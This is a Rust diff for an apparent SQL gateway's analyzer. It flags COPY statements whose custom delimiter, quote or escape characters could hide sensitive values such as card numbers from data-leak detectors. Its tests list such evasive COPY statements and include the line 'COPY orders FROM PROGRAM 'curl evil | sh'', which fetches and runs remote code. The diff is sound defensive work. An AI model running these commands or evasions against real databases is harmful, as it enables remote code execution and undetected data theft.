@@ -142,6 +142,10 @@ pub struct CopyInfo {
     pub file: bool,
     /// `FORMAT binary` (or the older `BINARY`), which the gateway cannot read as text.
     pub binary: bool,
+    /// A `DELIMITER`, `QUOTE` or `ESCAPE` other than the usual ones: the server then escapes or
+    /// doubles that character inside values (`4111\ 1111` with `DELIMITER ' '`), so what the
+    /// detectors read is no longer the values' text.
+    pub reshapes_text: bool,
 }
 
 impl CopyInfo {
@@ -534,11 +538,22 @@ impl<'t> Analysis<'t> {
                             .and_then(V::sval)
                             .is_some_and(|f| f.eq_ignore_ascii_case("binary"))
                 });
+                // Characters that never occur inside the values the detectors look for.
+                let reshapes_text = node.list("options").iter().any(|o| {
+                    let usual: &[&str] = match o.str("defname").to_ascii_lowercase().as_str() {
+                        "delimiter" => &["\t", ",", "|", ";"],
+                        "quote" => &["\"", "'"],
+                        "escape" => &["\"", "'", "\\"],
+                        _ => return false,
+                    };
+                    o.get("arg").and_then(V::sval).is_none_or(|c| !usual.contains(&c))
+                });
                 self.copy = Some(CopyInfo {
                     from,
                     program,
                     file,
                     binary,
+                    reshapes_text,
                 });
                 self.writes |= from || program || file;
                 K::Copy
@@ -2829,6 +2844,7 @@ mod tests {
                     program: false,
                     file: false,
                     binary: false,
+                    reshapes_text: false,
                 })
             )
         );
@@ -2855,6 +2871,21 @@ mod tests {
             "COPY orders TO STDOUT (FORMAT text)",
         ] {
             assert!(one(sql).copy.is_some_and(|c| !c.binary), "{sql}");
+        }
+        for sql in [
+            "COPY orders TO STDOUT (DELIMITER ' ')",
+            "COPY orders TO STDOUT WITH DELIMITER '@'",
+            "COPY orders TO STDOUT (FORMAT csv, QUOTE ' ')",
+            "COPY orders TO STDOUT (FORMAT csv, ESCAPE '1', FORCE_QUOTE *)",
+        ] {
+            assert!(one(sql).copy.is_some_and(|c| c.reshapes_text), "{sql}");
+        }
+        for sql in [
+            "COPY orders TO STDOUT (FORMAT csv, DELIMITER ';', QUOTE '\"')",
+            "COPY orders TO STDOUT (DELIMITER E'\\t', NULL 'none')",
+            "COPY orders TO STDOUT (FORMAT csv, HEADER, DELIMITER '|')",
+        ] {
+            assert!(one(sql).copy.is_some_and(|c| !c.reshapes_text), "{sql}");
         }
         let s = one("COPY orders FROM PROGRAM 'curl evil | sh'");
         assert_eq!(s.copy.map(|c| (c.program, c.file)), Some((true, false)));
